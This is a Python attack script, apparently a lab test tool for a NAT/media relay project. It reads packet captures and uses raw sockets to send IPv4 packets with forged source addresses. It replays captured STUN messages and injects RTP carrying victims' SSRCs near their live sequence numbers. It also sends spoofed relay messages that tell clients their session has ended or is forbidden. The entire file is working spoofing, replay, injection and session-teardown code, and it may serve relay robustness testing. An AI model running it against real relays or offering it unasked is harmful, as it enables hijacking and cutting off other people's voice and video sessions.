#!/usr/bin/python3
# natrelay
# SPDX-License-Identifier: LGPL-2.1-or-later
"""attack.py RELAY PORT SECONDS CAPTURE…: from somewhere in the lab's internet, with captures of what others sent to
the relay and got from it:

  - sends their STUN messages again, from here and from the very addresses they came from;
  - sends RTP with their SSRCs: from here, from a port beside theirs, and from their very addresses, with sequence
    numbers around the stream's and anywhere;
  - says to them in the relay's name that it goes, that the session has ended, that they are forbidden: indications,
    and errors without integrity to requests that were seen.

IPv4 only; needs raw sockets. Prints how many of each went out.
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time
import zlib

from pcap import datagrams

PAUSE = 0.004  # seconds between two rounds of a dozen datagrams
COOKIE = 0x2112A442
REASONS = (1, 2, 3, 4, 5, 6, 7)


def packet(source, sport, destination, dport, payload):
    """UDP over IPv4 with any source; no UDP checksum, which IPv4 allows."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), random.getrandbits(16), 0, 64, 17, 0,
                       source.packed, destination.packed) + udp + payload


def message(kind, transaction, attributes):
    """STUN with FINGERPRINT."""
    body = b"".join(struct.pack("!HH", number, len(value)) + value + b"\0" * (-len(value) % 4)
                    for number, value in attributes)
    head = struct.pack("!HHI", kind, len(body) + 8, COOKIE) + transaction
    return head + body + struct.pack("!HHI", 0x8028, 4, zlib.crc32(head + body) ^ 0x5354554E)


def indication():
    return message(0x0011, os.urandom(12), [(0xCE44, struct.pack("!I", random.choice(REASONS)))])


def forbidden(request):
    return message(0x0111, request[8:20], [(0x0009, struct.pack("!HH", 0, 0x0403) + b"Forbidden"),
                                           (0xCE44, struct.pack("!I", random.choice(REASONS)))])


def rtp(ssrc, sequence, stamp):
    return struct.pack("!BBHII", 0x80, 96, sequence & 0xFFFF, stamp & 0xFFFFFFFF, ssrc) + os.urandom(200)


class Loot:
    """What the captures hold."""
    def __init__(self, relay, port, paths):
        self.stun, self.sources, self.clients = [], {}, set()
        for path in paths:
            for source, sport, destination, dport, payload in datagrams(path):
                if (destination, dport) != (relay, port) or len(payload) < 20:
                    continue
                self.clients.add((source, sport))
                if payload[0] < 4:
                    self.stun.append((source, sport, payload))
                elif payload[0] >> 6 == 2 and not 192 <= payload[1] < 224:
                    sequence, stamp, ssrc = struct.unpack_from("!HII", payload, 2)
                    self.sources[ssrc] = (source, sport, sequence, stamp)
        self.clients = sorted(self.clients)


def round_of(loot, relay, port, began):
    """(name, source or None for our own, its port, to, its port, payload) of one round."""
    nobody = ipaddress.ip_address("198.18.0.%d" % random.randint(3, 250))
    source, sport, stolen = random.choice(loot.stun)
    yield "replayed", nobody, random.randint(1024, 65535), relay, port, stolen
    yield "replayed", source, sport, relay, port, stolen
    yield "replayed", source, (sport + random.randint(1, 5)) % 65536, relay, port, stolen
    for ssrc, (source, sport, sequence, stamp) in loot.sources.items():
        # About where the stream is by now, or anywhere.
        near = sequence + int((time.monotonic() - began) * 100) + random.randint(-200, 400)
        yield "rtp", nobody, random.randint(1024, 65535), relay, port, rtp(ssrc, near, stamp)
        yield "rtp", source, (sport + 1) % 65536, relay, port, rtp(ssrc, near, stamp)
        yield "rtp", source, sport, relay, port, rtp(ssrc, near, stamp)
        yield "rtp", source, sport, relay, port, rtp(ssrc, random.getrandbits(16), stamp)
    address, client = random.choice(loot.clients)
    yield "told", relay, port, address, client, indication()
    yield "told", relay, port, address, client, forbidden(stolen)
    yield "told", relay, port, address, client, rtp(random.choice(list(loot.sources)), random.getrandbits(16), 0)


def main():
    relay, port = ipaddress.ip_address(sys.argv[1]), int(sys.argv[2])
    loot = Loot(relay, port, sys.argv[4:])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    counts, began = {}, time.monotonic()
    print("loot: %d STUN messages, %d streams, %d clients" % (len(loot.stun), len(loot.sources), len(loot.clients)),
          flush=True)
    while time.monotonic() < began + float(sys.argv[3]):
        for name, source, sport, destination, dport, payload in round_of(loot, relay, port, began):
            raw.sendto(packet(source, sport, destination, dport, payload), (str(destination), 0))
            counts[name] = counts.get(name, 0) + 1
        time.sleep(PAUSE)
    print(" ".join("%s %d" % item for item in sorted(counts.items())), flush=True)


if __name__ == "__main__":
    main()
